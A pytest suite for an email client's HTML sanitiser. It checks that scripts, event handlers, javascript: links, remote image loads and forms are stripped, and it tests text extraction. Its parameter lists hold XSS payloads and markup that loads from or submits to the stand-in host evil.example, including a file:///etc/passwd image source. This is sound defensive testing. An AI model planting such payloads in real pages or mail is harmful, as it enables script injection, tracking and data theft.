"""What of a page is shown: nothing that runs, nothing that loads, all that was written."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from desktop.channels.email.html import REMOTE_SOURCE, announced_charset, is_tangled, sanitise, text_of

_LIVE = re.compile(r"<(?:script|style|iframe|object|embed|form|input|link|meta|base|svg|video|audio)\b", re.IGNORECASE)
_LOADS = re.compile(r'<[^>]*\s(?:src|srcset|background|poster)="\s*(?:https?:|//)', re.IGNORECASE)
_HANDLER = re.compile(r'<[a-z0-9]+(?: [a-z-]+="[^"]*")* on\w+=', re.IGNORECASE)


def _safe(html: str) -> str:
    page = sanitise(html, set())
    assert page is not None
    return page


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<iframe src=https://evil.example></iframe>",
        "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example'</style>",
        "<body background=https://evil.example/p.png><table background=https://evil.example/p.png><tr><td>x",
        "<div style='background:url(https://evil.example/p.png)'>x</div>",
        "<img srcset='https://evil.example/p.png 2x'><video poster=https://evil.example/p.png></video>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='file:///etc/passwd'><img src='//evil.example/p.png'>",
        "<form action=https://evil.example><input name=pin></form>",
    ],
)
def test_nothing_runs_loads_or_leaves(html: str) -> None:
    page = _safe(html)
    assert "alert" not in re.sub(r">[^<]*<", "><", page)
    assert not _LIVE.search(page)
    assert not _LOADS.search(page)
    assert "evil.example" not in page
    assert not re.search(r'src="(?!cid:|data:image/png)', page)


def test_a_remote_picture_waits_to_be_asked_for() -> None:
    page = _safe('<img alt="logo" width="9" src="https://shop.example/l.png"><img src=" HTTP://shop.example/m.png">')
    assert page.count(REMOTE_SOURCE) == 2
    assert f'<img alt="logo" width="9" {REMOTE_SOURCE}="https://shop.example/l.png">' in page
    assert not _LOADS.search(page)


def test_a_remote_picture_cannot_hide_behind_another_attribute() -> None:
    assert not _LOADS.search(_safe("""<img title='<img x=' alt='"' src="https://evil.example/p.png">"""))


def test_pictures_that_came_with_the_mail_stay() -> None:
    page = _safe('<img src="cid:p1"><img src="data:image/png;base64,aaaa">')
    assert 'src="cid:p1"' in page
    assert 'src="data:image/png;base64,aaaa"' in page


def test_a_large_picture_within_the_page_does_not_crowd_out_the_text() -> None:
    page = _safe(f'<img src="data:image/png;base64,{"a" * 2_000_000}"><p>below it</p>')
    assert "below it" in page
    assert len(page) < 1_000


def test_links_stay_and_tell_nobody_where_from() -> None:
    assert _safe('<a href="https://shop.example">x</a>') == (
        '<a href="https://shop.example" rel="noopener noreferrer">x</a>'
    )


@settings(deadline=None)
@given(st.text(alphabet=st.sampled_from("<>=\"/ abimgscriptonsrhtp:;&#x\n'")))
def test_no_mixture_of_tags_gets_through(html: str) -> None:
    page = _safe(html)
    assert not _LIVE.search(page)
    assert not _LOADS.search(page)
    assert not _HANDLER.search(page)


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 50_000,
        "<p " + " ".join(f"a{i}" for i in range(20_000)) + ">",
        "&" * 300_000,
        "<table>" + "<p>x" * 100_000,
    ],
)
def test_a_page_that_would_keep_the_sanitiser_busy_is_not_given_to_it(html: str) -> None:
    began = time.process_time()
    assert is_tangled(html)
    assert sanitise(html, set()) is None
    assert time.process_time() - began < 1


def test_a_long_ordinary_page_is_sanitised() -> None:
    row = '<tr><td style="a:b"><a href="https://shop.example/1">Item &amp; price</a><p>text</p></td></tr>'
    assert sanitise("<table>" + row * 2_000 + "</table>", set()) is not None


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("one<br>two<br><br>three", "one\ntwo\n\nthree"),
        ("a\n  b&nbsp;c &lt;d&gt;", "a b\u00a0c <d>"),
        ("<ul><li>one</li><li>two</li></ul>", "- one\n- two"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("<pre>  x\n    y</pre>", "x\n    y"),
        ("new<blockquote>old<br>older</blockquote>", "new\n\n> old\n> older"),
        ("a<b>b</b> <i>c</i>", "ab c"),
        ("<style>p{}</style><title>t</title>x", "x"),
    ],
)
def test_a_page_reads_as_it_looks(html: str, text: str) -> None:
    assert text_of(_safe(html)) == text


def test_the_charset_is_found_in_the_head_of_the_page() -> None:
    assert announced_charset(b'<meta http-equiv="x" content="text/html; charset=koi8-r">') == "koi8-r"
    assert announced_charset(b'<meta charset="utf-8">') == "utf-8"
    assert announced_charset(b"<p>charset=utf-8") is None
